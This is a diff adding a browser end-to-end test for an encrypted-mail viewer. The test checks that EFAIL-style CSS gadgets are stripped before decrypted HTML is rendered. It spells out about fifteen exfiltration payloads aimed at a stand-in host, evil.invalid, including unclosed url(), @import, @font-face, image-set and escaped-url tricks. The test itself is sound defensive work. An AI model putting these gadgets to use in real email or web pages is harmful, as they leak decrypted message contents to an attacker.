@@ -9,7 +9,10 @@ import { requireChromium } from '../helpers/browser.ts';
 import { ROOT, requireShared } from '../helpers/paths.ts';
 import { outbox, sleep } from '../server/helpers.ts';
 import {
+  corpusKey,
   deliver,
+  importKeyInPrompt,
+  pgpMimeToBob,
   deliveryState,
   newPage,
   waitForState,
@@ -157,6 +160,56 @@ describe.skipIf(!ready)('receiver e2e: hardening (issue 10)', () => {
         .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
     });
     expect(violations).toEqual([]);
+    await context.close();
+  });
+
+  it('EFAIL-style CSS gadgets: nothing that could fetch reaches the frame, legitimate styles do', async () => {
+    const EVIL = 'https://evil.invalid';
+    const html = `<html><head>
+<style>.ok{color:rgb(0,128,0)} .g1{background:url(${EVIL}/g1-unclosed-sheet</style>
+<style>.g2{background-image:image-set("${EVIL}/g2-image-set" 1x)}</style>
+<style>.g3{background-image:-webkit-image-set("${EVIL}/g3-webkit" 1x)}</style>
+<style>@font-face{font-family:f;src:url(${EVIL}/g4-font)} .g4{font-family:f}</style>
+<style>@media screen{.g5{list-style-image:url(${EVIL}/g5-media)}}</style>
+<style>@import url(${EVIL}/g6-import.css); .g6{color:blue}</style>
+<style>.g7{--x:url(${EVIL}/g7-var);background-image:var(--x)}</style>
+<style>@property --p{syntax:'<url>';inherits:false;initial-value:url(${EVIL}/g8-property)} .g8{background-image:var(--p)}</style>
+<style>.g9{background:u\\72 l(${EVIL}/g9-escaped</style>
+</head><body>
+<p id="ok" class="ok">fine</p>
+<p id="red" style="color: rgb(200, 0, 0); background:url(${EVIL}/g10-attr-unclosed">red</p>
+<p style="border-image: url('${EVIL}/g11') 30">b</p>
+<p style="cursor:url(${EVIL}/g12),auto">c</p>
+<p style="background:image-set('${EVIL}/g13' 1x)">d</p>
+<p style="background:-webkit-cross-fade(url(${EVIL}/g14), url(${EVIL}/g15), 50%)">e</p>
+<p>MARK-css-gadgets</p>
+</body></html>`;
+    const inner = ['Content-Type: text/html; charset=utf-8', '', html, ''].join('\r\n');
+    const d = await deliver(e.t, pgpMimeToBob(inner, 'CSS gadgets'));
+    const { page, context } = await track();
+    await page.goto(d.link);
+    await importKeyInPrompt(page, corpusKey('bob.sec.asc'), 'bob-pass');
+    const frame = page.frameLocator('iframe.html-frame');
+    await frame.locator('#ok').waitFor({ timeout: 30_000 });
+    const applied = await frame.locator('body').evaluate((b) => {
+      const doc = b.ownerDocument;
+      const rules = (list: CSSRuleList): string[] =>
+        Array.from(list).flatMap((r) => [
+          r.cssText,
+          ...('cssRules' in r ? rules(r.cssRules as CSSRuleList) : []),
+        ]);
+      return {
+        sheets: doc.adoptedStyleSheets.flatMap((s) => rules(s.cssRules)),
+        styles: Array.from(doc.querySelectorAll('*'), (el) => (el as HTMLElement).style?.cssText ?? ''),
+        html: b.innerHTML,
+      };
+    });
+    expect(JSON.stringify(applied)).not.toContain('evil.invalid');
+    expect(JSON.stringify(applied)).not.toMatch(/url\(|image-set|@import|@font-face|@property/i);
+    // What is harmless still applies.
+    expect(await frame.locator('#ok').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(0, 128, 0)');
+    expect(await frame.locator('#red').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(200, 0, 0)');
+    expect(await page.locator('.notice').innerText()).toMatch(/blocked/);
     await context.close();
   });
 
